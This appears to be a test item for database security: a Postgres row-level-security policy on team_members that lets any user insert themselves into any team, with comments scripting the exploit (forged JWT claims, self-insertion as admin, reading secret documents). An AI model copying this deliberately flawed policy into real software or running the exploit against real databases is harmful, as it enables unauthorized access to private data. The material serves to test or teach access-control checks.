-- A user makes himself a member of any team and reads all it has.
-- about: team_members
-- as: ho_documents_user
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-000000000001", "role":
-- exploit: "authenticated"}';
-- exploit: INSERT INTO team_members VALUES ('bbbbbbbb-0000-4000-8000-000000000000',
-- exploit: 'aaaaaaaa-0000-4000-8000-000000000001', 'admin');
-- exploit: SELECT title FROM documents;
-- shows: DB-secret
CREATE POLICY "join" ON team_members FOR INSERT WITH CHECK (user_id = auth.uid());
GRANT INSERT ON team_members TO ho_documents_user;
